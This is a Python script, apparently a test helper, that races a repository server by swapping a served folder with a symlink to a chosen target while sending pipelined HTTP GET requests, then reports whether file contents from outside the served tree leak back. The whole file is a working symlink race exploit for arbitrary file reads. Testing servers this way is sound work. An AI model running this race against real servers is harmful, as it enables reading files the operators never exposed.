# SPDX-License-Identifier: GPL-3.0-or-later
"""Exchanges a folder of a published repository and a link to `target` without a pause, and asks for a file below.

exchange.py REPOSITORY PORT TARGET REQUESTS prints how often the folder's own file came, and then what else came.
"""
import ctypes
import os
import signal
import socket
import sys

RENAME_EXCHANGE = 2
OWN = b"own\n"
BATCH = 200


def exchange():
    rename = ctypes.CDLL(None).renameat2
    parent = os.getppid()
    while os.getppid() == parent:
        for _ in range(1000):
            rename(-100, b"real", -100, b"link", RENAME_EXCHANGE)


def answer(stream):
    """Body of the next answer, None without one, and whether more answers follow on this connection."""
    status = stream.readline()
    length, more = 0, bool(status)
    for line in iter(stream.readline, b"\r\n"):
        if not line:
            return None, False
        name, _, value = line.lower().partition(b":")
        if name == b"content-length":
            length = int(value)
        elif name == b"connection" and b"close" in value:
            more = False
    body = stream.read(length)
    return (body if b" 200 " in status else None), more


repository, port, target, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
os.chdir(os.path.join(repository, "pool"))
os.mkdir("real")
with open("real/0", "wb") as file:
    file.write(OWN)
os.symlink(target, "link")
child = os.fork()
if child == 0:
    exchange()
    os._exit(0)
own, others, asked = 0, set(), 0
while asked < count and not others:
    with socket.create_connection(("127.0.0.1", port), 20) as connection, connection.makefile("rb") as stream:
        connection.sendall(b"GET /pool/real/0 HTTP/1.1\r\nHost: x\r\n\r\n" * BATCH)
        more = True
        for _ in range(BATCH):
            body, more = answer(stream)
            asked += 1
            if body == OWN:
                own += 1
            elif body is not None:
                others.add(body)
            if not more:
                break
os.kill(child, signal.SIGKILL)
os.wait()
print("own" if own > count // 100 else own, *sorted(others))
